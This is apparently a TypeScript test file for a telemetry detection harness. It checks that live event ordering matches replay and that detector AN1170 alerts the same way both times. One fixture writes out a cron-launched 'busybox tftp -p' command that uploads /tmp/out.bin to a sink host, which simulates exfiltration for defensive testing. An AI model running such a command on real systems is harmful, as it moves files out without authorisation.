import { expect } from 'chai';
import fc from 'fast-check';
import { TimeOrderedFeed, mergeByTime } from '../../detectors/time-order.js';
import type { TelemetryItem } from '../../harness/telemetry/types.js';
import { artifact, connect, exec, flow } from './factory.js';
import { runDetector } from './run.js';

async function* of(items: TelemetryItem[]) {
  yield* items;
}

async function merged(audit: TelemetryItem[], flows: TelemetryItem[], artifacts: TelemetryItem[]): Promise<TelemetryItem[]> {
  const out: TelemetryItem[] = [];
  for await (const x of mergeByTime(of(audit), of(flows), of(artifacts))) out.push(x);
  return out;
}

/**
 * A live run as the collectors deliver it: audit events in log order, each `delay` seconds after it happened (auditd
 * and the follower lag, more under load); flows and artifacts when they are stamped; a marker written at `t`
 * arrives once every earlier event has, and says the log is read up to `t`.
 */
function live(audit: { item: TelemetryItem; t: number; delay: number }[], stamped: { item: TelemetryItem; t: number }[], markers: number[]): TelemetryItem[] {
  type Action = { at: number; order: number; run: (feed: TimeOrderedFeed) => void };
  const actions: Action[] = [];
  let last = -Infinity;
  const arrivals = audit.map((a) => (last = Math.max(last, a.t + a.delay))); // the log is read in order
  audit.forEach((a, i) => actions.push({ at: arrivals[i]!, order: 0, run: (feed) => feed.add(a.item) }));
  for (const s of stamped) actions.push({ at: s.t, order: 1, run: (feed) => feed.add(s.item) });
  for (const m of markers) {
    const after = Math.max(m, ...audit.flatMap((a, i) => (a.t < m ? [arrivals[i]!] : [])));
    actions.push({ at: after, order: 2, run: (feed) => feed.auditReadUpTo(Date.parse(at(m))) });
  }
  actions.sort((x, y) => x.at - y.at || x.order - y.order);
  const out: TelemetryItem[] = [];
  const feed = new TimeOrderedFeed((item) => out.push(item));
  for (const a of actions) a.run(feed);
  feed.end();
  return out;
}

function at(seconds: number): string {
  return new Date(Date.parse('2025-03-01T10:00:00.000Z') + seconds * 1000).toISOString();
}

describe('time order, live and in replay', () => {
  it('feeds a live run in the order replay of its saved files gives, however late audit events arrive', async () => {
    const times = fc.array(fc.integer({ min: 0, max: 400 }), { maxLength: 25 }).map((xs) => xs.sort((a, b) => a - b).map((x) => x / 10));
    await fc.assert(
      fc.asyncProperty(times, times, times, fc.array(fc.integer({ min: 0, max: 80 }), { minLength: 25, maxLength: 25 }), fc.array(fc.integer({ min: 0, max: 400 }), { maxLength: 8 }), async (auditTimes, flowTimes, artifactTimes, delays, markers) => {
        const audit = auditTimes.map((t, i) => ({ item: exec({ t, pid: 100 + i, argv: [`a${i}`] }), t, delay: delays[i]! / 10 }));
        const flows = flowTimes.map((t, i) => ({ item: flow({ t, src: '10.0.0.1', dst: '10.0.0.2', sport: 1000 + i }), t }));
        const artifacts = artifactTimes.map((t, i) => ({ item: artifact({ path: `/tmp/${i}`, t }), t }));
        const expected = await merged(audit.map((a) => a.item), flows.map((f) => f.item), artifacts.map((a) => a.item));
        const got = live(audit, [...flows, ...artifacts], markers.map((m) => m / 10));
        expect(got).to.deep.equal(expected);
      }),
      { numRuns: 300 },
    );
  });

  it('holds a flow until the audit log is read up to its time, not longer', () => {
    const out: string[] = [];
    const feed = new TimeOrderedFeed((item) => out.push(item.kind));
    feed.add(flow({ t: 5, src: '10.0.0.1', dst: '10.0.0.2' }));
    expect(out).to.deep.equal([]);
    expect(feed.waiting).to.equal(1);
    feed.auditReadUpTo(Date.parse(at(4)));
    expect(out).to.deep.equal([]);
    feed.add(exec({ t: 3, pid: 1, argv: ['late'] }));
    expect(out).to.deep.equal(['audit']);
    feed.auditReadUpTo(Date.parse(at(6)));
    expect(out).to.deep.equal(['audit', 'flow']);
    feed.add(exec({ t: 7, pid: 2, argv: ['now'] }));
    expect(out).to.deep.equal(['audit', 'flow', 'audit']);
  });

  it('gives busybox tftp the same AN1170 alert live as in replay when auditd is seconds late', async () => {
    // The request to 69 and the server's data flow are polled while the exec and the connect() are still in
    // auditd's queue: without the feed the data flow is decided before the request flow is tied, and live named
    // the server's data port where replay named 69.
    const SINK = '172.18.0.3';
    const VICTIM = '172.18.0.2';
    const argv = ['busybox', 'tftp', '-p', '-l', '/tmp/out.bin', SINK];
    const audit = [
      exec({ t: 0, pid: 10, ppid: 1, argv: ['/usr/sbin/cron', '-f'], exe: '/usr/sbin/cron' }),
      exec({ t: 1, pid: 12, ppid: 10, uid: 1000, argv: ['/bin/sh', '-c', argv.join(' ')], exe: '/usr/bin/dash' }),
      exec({ t: 2, pid: 13, ppid: 12, uid: 1000, argv, exe: '/usr/bin/busybox' }),
      connect({ t: 2.1, pid: 13, ppid: 12, uid: 1000, exe: '/usr/bin/busybox', addr: SINK, port: 50000 }),
    ].map((item) => ({ item, t: (Date.parse((item as { event: { time: string } }).event.time) - Date.parse(at(0))) / 1000, delay: 6 }));
    const polls = [2.5, 3, 3.5].flatMap((t, i) => [
      { item: flow({ t, protocol: 'udp', src: SINK, sport: 50000, dst: VICTIM, dport: 40000, bytesOut: 1000 * (i + 1), bytesIn: 8 * 1024 * 1024 * (i + 1) }), t },
      { item: flow({ t, protocol: 'udp', src: VICTIM, sport: 40000, dst: SINK, dport: 69, bytesOut: 60, bytesIn: 0 }), t },
    ]);
    const summaries = (items: TelemetryItem[]) => runDetector('AN1170', items).alerts.map((a) => a.summary);
    const replayed = summaries(await merged(audit.map((a) => a.item), polls.map((p) => p.item), []));
    expect(replayed).to.have.length(1);
    expect(summaries(live(audit, polls, [4, 9]))).to.deep.equal(replayed);
    // What arrival order alone gives: every poll first, then the late audit events.
    const arrival = [...polls.map((p) => p.item), ...audit.map((a) => a.item)];
    expect(summaries(arrival), 'arrival order differs (else this test shows nothing)').to.not.deep.equal(replayed);
  });
});
